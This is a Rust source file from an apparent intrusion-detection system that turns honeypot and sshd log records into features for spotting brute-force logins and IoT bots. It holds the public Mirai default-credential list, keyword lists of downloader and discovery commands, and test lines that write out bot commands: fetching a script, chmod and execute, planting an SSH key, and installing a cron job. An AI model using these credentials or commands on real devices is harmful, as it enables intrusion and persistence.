//! From records to observations, and from a source's windows to named features. Pure.
//!
//! `observe` decides once per record what it is (a failed login, a download command, a
//! Mirai credential, …) so that computing features is counting bits, not parsing strings.

use std::collections::BTreeMap;
use uuid::Uuid;
use xdr_domain::telemetry::SecurityEvent;

use crate::windows::{flags, Kind, Obs, SourceWindow, MICROS, WINDOW_1H, WINDOW_1M, WINDOW_30M, WINDOW_5M};

/// Bumped when a feature's definition or the order of [`FEATURE_NAMES`] changes.
pub const FEATURE_VERSION: u32 = 1;

/// The public Mirai default-credential list (from the released Mirai source, `scanner.c`),
/// as `(username, password)`. A successful login with one of these is an IoT bot.
pub const MIRAI_CREDENTIALS: &[(&str, &str)] = &[
    ("root", "xc3511"),
    ("root", "vizxv"),
    ("root", "admin"),
    ("admin", "admin"),
    ("root", "888888"),
    ("root", "xmhdipc"),
    ("root", "default"),
    ("root", "juantech"),
    ("root", "123456"),
    ("root", "54321"),
    ("support", "support"),
    ("root", ""),
    ("admin", "password"),
    ("root", "root"),
    ("root", "12345"),
    ("user", "user"),
    ("admin", ""),
    ("root", "pass"),
    ("admin", "admin1234"),
    ("root", "1111"),
    ("admin", "smcadmin"),
    ("admin", "1111"),
    ("root", "666666"),
    ("root", "password"),
    ("root", "1234"),
    ("root", "klv123"),
    ("Administrator", "admin"),
    ("service", "service"),
    ("supervisor", "supervisor"),
    ("guest", "guest"),
    ("guest", "12345"),
    ("admin1", "password"),
    ("administrator", "1234"),
    ("666666", "666666"),
    ("888888", "888888"),
    ("ubnt", "ubnt"),
    ("root", "klv1234"),
    ("root", "Zte521"),
    ("root", "hi3518"),
    ("root", "jvbzd"),
    ("root", "anko"),
    ("root", "zlxx."),
    ("root", "7ujMko0vizxv"),
    ("root", "7ujMko0admin"),
    ("root", "system"),
    ("root", "ikwb"),
    ("root", "dreambox"),
    ("root", "user"),
    ("root", "realtek"),
    ("root", "00000000"),
    ("admin", "1111111"),
    ("admin", "1234"),
    ("admin", "12345"),
    ("admin", "54321"),
    ("admin", "123456"),
    ("admin", "7ujMko0admin"),
    ("admin", "pass"),
    ("admin", "meinsm"),
    ("tech", "tech"),
    ("mother", "fucker"),
];

/// Is `(user, password)` a Mirai default credential?
pub fn is_mirai_credential(user: &str, password: &str) -> bool {
    MIRAI_CREDENTIALS.iter().any(|(u, p)| *u == user && *p == password)
}

/// 64-bit FNV-1a: a stable, fast hash for distinct-counting names (0 is reserved for none).
fn hash(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.as_bytes() {
        h ^= u64::from(*b);
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h.max(1)
}

fn opt_hash(s: Option<&str>) -> u64 {
    s.map_or(0, hash)
}

fn kind_of(event_type: &str) -> Kind {
    match event_type {
        "cowrie.session.connect" | "sshd.banner_invalid" => Kind::Connect,
        "cowrie.login.failed" | "sshd.failed_password" => Kind::LoginFailed,
        "cowrie.login.success" | "sshd.accepted" => Kind::LoginSuccess,
        "sshd.invalid_user" => Kind::InvalidUser,
        "cowrie.command.input" => Kind::Command,
        "cowrie.session.file_download" => Kind::FileDownload,
        "cowrie.session.closed" => Kind::Closed,
        other if other.ends_with(".login.failed") => Kind::LoginFailed,
        other if other.ends_with(".login.success") => Kind::LoginSuccess,
        other if other.ends_with(".command.input") => Kind::Command,
        _ => Kind::Other,
    }
}

const DOWNLOADERS: &[&str] = &["wget", "curl", "tftp", "ftpget"];
const DISCOVERY: &[&str] =
    &["uname", "/proc/cpuinfo", "/proc/meminfo", "nproc", "lscpu", "/etc/passwd", "/etc/os-release", "/etc/issue"];

/// What one shell command line does, as [`flags`] bits.
pub fn command_flags(command: &str) -> u32 {
    let lower = command.to_ascii_lowercase();
    let mut f = 0;
    for segment in command.split([';', '|', '&', '\n']) {
        let seg = segment.trim();
        let mut words = seg.split_whitespace();
        let first = words.next().unwrap_or("").trim_start_matches(['(', '{']);
        let program = first.rsplit('/').next().unwrap_or(first);
        if DOWNLOADERS.contains(&program) {
            f |= flags::DOWNLOAD;
        }
        if program == "chmod" && seg.split_whitespace().skip(1).any(|a| a.contains("+x") || is_exec_mode(a)) {
            f |= flags::CHMOD_X;
        }
        if first.starts_with("./") || (matches!(program, "sh" | "bash") && words.clone().any(|a| a.ends_with(".sh"))) {
            f |= flags::EXEC_LOCAL;
        }
        // `crontab -` / `crontab file` / `crontab -e` install a table; `crontab -l` only lists.
        if program == "crontab" && !seg.split_whitespace().any(|a| a == "-l") {
            f |= flags::PERSIST_CRON;
        }
        if program == "busybox" {
            // Applets are lower-case; bots probe with a random upper-case word (`ECCHI`).
            if let Some(arg) = words.next() {
                if arg.len() >= 3 && arg.bytes().all(|b| b.is_ascii_uppercase()) {
                    f |= flags::BUSYBOX_PROBE;
                }
            }
        }
        f |= match seg {
            "enable" => flags::ESC_ENABLE,
            "system" => flags::ESC_SYSTEM,
            "shell" => flags::ESC_SHELL,
            "sh" => flags::ESC_SH,
            "linuxshell" => flags::ESC_LINUXSHELL,
            _ => 0,
        };
    }
    if lower.contains("authorized_keys") && (lower.contains('>') || lower.contains("tee ") || lower.contains("cp ")) {
        f |= flags::PERSIST_KEYS;
    }
    if lower.contains("/etc/cron") && (lower.contains('>') || lower.contains("tee ")) {
        f |= flags::PERSIST_CRON;
    }
    if DISCOVERY.iter().any(|d| lower.contains(d)) {
        f |= flags::DISCOVERY;
    }
    f
}

/// `chmod 755`, `chmod 0777`, `chmod u+x`: an octal mode that makes the owner execute.
fn is_exec_mode(arg: &str) -> bool {
    let digits = arg.trim_start_matches('0');
    digits.len() == 3 && digits.bytes().all(|b| (b'0'..=b'7').contains(&b)) && (digits.as_bytes()[0] - b'0') & 1 == 1
}

/// Reduce one record to what detection reads. `seq` and `event_id` are its log position.
pub fn observe(seq: i64, event_id: Uuid, ev: &SecurityEvent) -> Obs {
    let kind = kind_of(&ev.event_type);
    let mut f = 0;
    match kind {
        Kind::Command => f |= ev.command.as_deref().map_or(0, command_flags),
        Kind::FileDownload => {
            if ev.url.as_deref().is_some_and(|u| !u.is_empty()) {
                f |= flags::DOWNLOAD;
            }
            // Cowrie logs redirected output (`echo … >> ~/.ssh/authorized_keys`) as a download
            // whose destination is the written file.
            let dest = ev.raw.get("destfile").and_then(|d| d.as_str()).unwrap_or("");
            if dest.ends_with("authorized_keys") {
                f |= flags::PERSIST_KEYS;
            }
            if dest.contains("/cron") {
                f |= flags::PERSIST_CRON;
            }
        }
        Kind::LoginFailed | Kind::LoginSuccess => {
            if let (Some(u), Some(p)) = (ev.username.as_deref(), ev.password.as_deref()) {
                if is_mirai_credential(u, p) {
                    f |= flags::DEFAULT_CREDENTIAL;
                }
            }
        }
        _ => {}
    }
    Obs {
        t: ev.timestamp.timestamp_micros(),
        seq,
        event_id,
        kind,
        flags: f,
        user: opt_hash(ev.username.as_deref()),
        pass: opt_hash(ev.password.as_deref()),
        session: opt_hash(ev.session_id.as_deref()),
        dst_port: ev.dst_port.unwrap_or(0),
        duration: ev.duration_secs.map_or(-1.0, |d| d as f32),
    }
}

macro_rules! features {
    ($( $(#[$doc:meta])* $name:ident ),* $(,)?) => {
        /// The feature vector of one source at one moment (the anchor), in a fixed order.
        #[derive(Debug, Clone, Default, PartialEq)]
        pub struct Features {
            $( $(#[$doc])* pub $name: f64, )*
        }

        /// Feature names in vector order.
        pub const FEATURE_NAMES: &[&str] = &[ $( stringify!($name), )* ];

        impl Features {
            /// Values in [`FEATURE_NAMES`] order.
            pub fn values(&self) -> Vec<f64> {
                vec![ $( self.$name, )* ]
            }

            pub fn get(&self, name: &str) -> Option<f64> {
                match name {
                    $( stringify!($name) => Some(self.$name), )*
                    _ => None,
                }
            }

            pub fn to_map(&self) -> BTreeMap<&'static str, f64> {
                let mut m = BTreeMap::new();
                $( m.insert(stringify!($name), self.$name); )*
                m
            }
        }
    };
}

features! {
    /// Observations of any kind in the last hour.
    events_1h,
    /// Connections opened in the last 1 min / 5 min / 1 h.
    connects_1m, connects_5m, connects_1h,
    /// Failed logins in the last 1 min / 5 min / 30 min / 1 h.
    failed_logins_1m, failed_logins_5m, failed_logins_30m, failed_logins_1h,
    /// Most failed logins in any 60 s span within the last hour.
    max_failed_logins_per_60s_1h,
    successful_logins_1h,
    /// Failed plus successful logins in the last 5 min.
    login_attempts_5m,
    /// sshd `Invalid user` lines in the last hour.
    invalid_users_1h,
    distinct_usernames_30m, distinct_passwords_30m, distinct_usernames_1h, distinct_passwords_1h,
    /// Login attempts (any outcome) / successes with a Mirai default credential.
    default_credential_attempts_1h, default_credential_successes_1h,
    /// Failed logins in the hour before the latest successful login.
    failed_before_success_1h,
    commands_1h,
    /// Commands running wget/curl/tftp/ftpget, and downloads with a URL.
    download_commands_1h, file_downloads_1h,
    /// `chmod +x`-like commands, `./file` executions, and 1 when a chmod precedes an execution.
    chmod_exec_1h, exec_local_1h, chmod_then_exec_1h,
    /// Writes to authorized_keys or crontab (commands or redirected-output downloads).
    persistence_1h,
    /// System discovery commands (uname, /proc/cpuinfo, nproc, /etc/passwd, …).
    discovery_1h,
    /// `busybox <UPPERCASE>` probes and distinct router-CLI escapes (enable/system/shell/sh).
    busybox_probes_1h, cli_escapes_1h,
    distinct_dst_ports_1h,
    /// Distinct session ids (Cowrie sessions, sshd PIDs).
    sessions_1h,
    /// Gaps between consecutive observations (seconds): mean, min, standard deviation.
    mean_gap_secs_1h, min_gap_secs_1h, std_gap_secs_1h,
    /// Durations of sessions that closed in the last hour (seconds): mean and max.
    mean_session_secs_1h, max_session_secs_1h,
}

fn distinct(v: &mut Vec<u64>) -> f64 {
    v.sort_unstable();
    v.dedup();
    v.len() as f64
}

/// Compute every feature over the windows ending at `anchor` (event time, microseconds).
pub fn extract(w: &SourceWindow, anchor: i64) -> Features {
    let mut f = Features::default();
    let (mut users30, mut pass30, mut users1h, mut pass1h) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    let (mut ports, mut sessions) = (Vec::new(), Vec::new());
    let mut failures: Vec<i64> = Vec::new();
    let (mut escapes, mut first_chmod, mut last_exec, mut last_success) = (0u32, i64::MAX, i64::MIN, None);
    let (mut prev_t, mut gaps, mut gap_sum, mut gap_sq, mut gap_min) = (None::<i64>, 0u32, 0.0, 0.0, f64::MAX);
    let (mut closed, mut dur_sum, mut dur_max) = (0u32, 0.0f64, 0.0f64);

    for o in w.range(anchor, WINDOW_1H) {
        let age = anchor - o.t;
        let in_1m = age < WINDOW_1M;
        let in_5m = age < WINDOW_5M;
        let in_30m = age < WINDOW_30M;
        f.events_1h += 1.0;
        if let Some(p) = prev_t {
            let g = (o.t - p) as f64 / MICROS as f64;
            gaps += 1;
            gap_sum += g;
            gap_sq += g * g;
            gap_min = gap_min.min(g);
        }
        prev_t = Some(o.t);
        if o.dst_port != 0 {
            ports.push(u64::from(o.dst_port));
        }
        if o.session != 0 {
            sessions.push(o.session);
        }
        let login = matches!(o.kind, Kind::LoginFailed | Kind::LoginSuccess);
        if login {
            if o.user != 0 {
                users1h.push(o.user);
                if in_30m {
                    users30.push(o.user);
                }
            }
            if o.pass != 0 {
                pass1h.push(o.pass);
                if in_30m {
                    pass30.push(o.pass);
                }
            }
            if in_5m {
                f.login_attempts_5m += 1.0;
            }
            if o.flags & flags::DEFAULT_CREDENTIAL != 0 {
                f.default_credential_attempts_1h += 1.0;
            }
        }
        match o.kind {
            Kind::Connect => {
                f.connects_1h += 1.0;
                f.connects_5m += f64::from(u8::from(in_5m));
                f.connects_1m += f64::from(u8::from(in_1m));
            }
            Kind::LoginFailed => {
                failures.push(o.t);
                f.failed_logins_1h += 1.0;
                f.failed_logins_30m += f64::from(u8::from(in_30m));
                f.failed_logins_5m += f64::from(u8::from(in_5m));
                f.failed_logins_1m += f64::from(u8::from(in_1m));
            }
            Kind::LoginSuccess => {
                f.successful_logins_1h += 1.0;
                if o.flags & flags::DEFAULT_CREDENTIAL != 0 {
                    f.default_credential_successes_1h += 1.0;
                }
                last_success = Some(o.t);
            }
            Kind::InvalidUser => f.invalid_users_1h += 1.0,
            Kind::Command => {
                f.commands_1h += 1.0;
                let b = o.flags;
                f.download_commands_1h += f64::from(u8::from(b & flags::DOWNLOAD != 0));
                f.chmod_exec_1h += f64::from(u8::from(b & flags::CHMOD_X != 0));
                f.exec_local_1h += f64::from(u8::from(b & flags::EXEC_LOCAL != 0));
                f.persistence_1h += f64::from(u8::from(b & flags::PERSISTENCE != 0));
                f.discovery_1h += f64::from(u8::from(b & flags::DISCOVERY != 0));
                f.busybox_probes_1h += f64::from(u8::from(b & flags::BUSYBOX_PROBE != 0));
                escapes |= b & flags::ESCAPES;
                if b & flags::CHMOD_X != 0 {
                    first_chmod = first_chmod.min(o.t);
                }
                if b & flags::EXEC_LOCAL != 0 {
                    last_exec = last_exec.max(o.t);
                }
            }
            Kind::FileDownload => {
                f.file_downloads_1h += f64::from(u8::from(o.flags & flags::DOWNLOAD != 0));
                f.persistence_1h += f64::from(u8::from(o.flags & flags::PERSISTENCE != 0));
            }
            Kind::Closed => {
                if o.duration >= 0.0 {
                    closed += 1;
                    dur_sum += f64::from(o.duration);
                    dur_max = dur_max.max(f64::from(o.duration));
                }
            }
            Kind::Other => {}
        }
    }

    // Sliding 60 s maximum over the (sorted) failure times.
    let mut lo = 0;
    for hi in 0..failures.len() {
        while failures[hi] - failures[lo] >= WINDOW_1M {
            lo += 1;
        }
        f.max_failed_logins_per_60s_1h = f.max_failed_logins_per_60s_1h.max((hi - lo + 1) as f64);
    }
    if let Some(s) = last_success {
        f.failed_before_success_1h =
            w.range(s - 1, WINDOW_1H - 1).filter(|o| o.kind == Kind::LoginFailed).count() as f64;
    }
    f.chmod_then_exec_1h = f64::from(u8::from(first_chmod <= last_exec));
    f.cli_escapes_1h = f64::from(escapes.count_ones());
    f.distinct_usernames_30m = distinct(&mut users30);
    f.distinct_passwords_30m = distinct(&mut pass30);
    f.distinct_usernames_1h = distinct(&mut users1h);
    f.distinct_passwords_1h = distinct(&mut pass1h);
    f.distinct_dst_ports_1h = distinct(&mut ports);
    f.sessions_1h = distinct(&mut sessions);
    if gaps > 0 {
        let n = f64::from(gaps);
        f.mean_gap_secs_1h = gap_sum / n;
        f.min_gap_secs_1h = gap_min;
        f.std_gap_secs_1h = (gap_sq / n - f.mean_gap_secs_1h * f.mean_gap_secs_1h).max(0.0).sqrt();
    }
    if closed > 0 {
        f.mean_session_secs_1h = dur_sum / f64::from(closed);
        f.max_session_secs_1h = dur_max;
    }
    f
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_classified() {
        use flags::*;
        assert_eq!(command_flags("wget http://198.51.100.7/bot.sh"), DOWNLOAD);
        assert_eq!(command_flags("cd /tmp; /usr/bin/curl -O http://x/y"), DOWNLOAD);
        assert_eq!(command_flags("chmod +x bot.sh; ./bot.sh"), CHMOD_X | EXEC_LOCAL);
        assert_eq!(command_flags("chmod 755 x"), CHMOD_X);
        assert_eq!(command_flags("chmod 644 x"), 0);
        assert_eq!(command_flags("echo \"ssh-rsa AAAA\" >> ~/.ssh/authorized_keys"), PERSIST_KEYS);
        assert_eq!(command_flags("(crontab -l; echo '* * * * * /tmp/x') | crontab -"), PERSIST_CRON);
        assert_eq!(command_flags("uname -a"), DISCOVERY);
        assert_eq!(command_flags("cat /proc/cpuinfo"), DISCOVERY);
        assert_eq!(command_flags("cat /proc/mounts; /bin/busybox ECCHI"), BUSYBOX_PROBE);
        assert_eq!(command_flags("/bin/busybox ls"), 0);
        assert_eq!(command_flags("enable"), ESC_ENABLE);
        assert_eq!(command_flags(" sh "), ESC_SH);
        assert_eq!(command_flags("ls"), 0);
        assert_eq!(command_flags("pwd"), 0);
        assert_eq!(command_flags("mkdir -p ~/.ssh"), 0);
    }

    #[test]
    fn mirai_list_has_the_classics() {
        assert!(is_mirai_credential("root", "xc3511"));
        assert!(is_mirai_credential("root", "vizxv"));
        assert!(is_mirai_credential("admin", "admin"));
        assert!(!is_mirai_credential("root", "1qaz@WSX"));
        assert!(MIRAI_CREDENTIALS.len() >= 60);
    }

    #[test]
    fn names_and_values_line_up() {
        let f = Features { failed_logins_1m: 7.0, ..Default::default() };
        assert_eq!(FEATURE_NAMES.len(), f.values().len());
        let i = FEATURE_NAMES.iter().position(|n| *n == "failed_logins_1m").unwrap();
        assert_eq!(f.values()[i], 7.0);
        assert_eq!(f.get("failed_logins_1m"), Some(7.0));
        assert_eq!(f.to_map().len(), FEATURE_NAMES.len());
    }
}
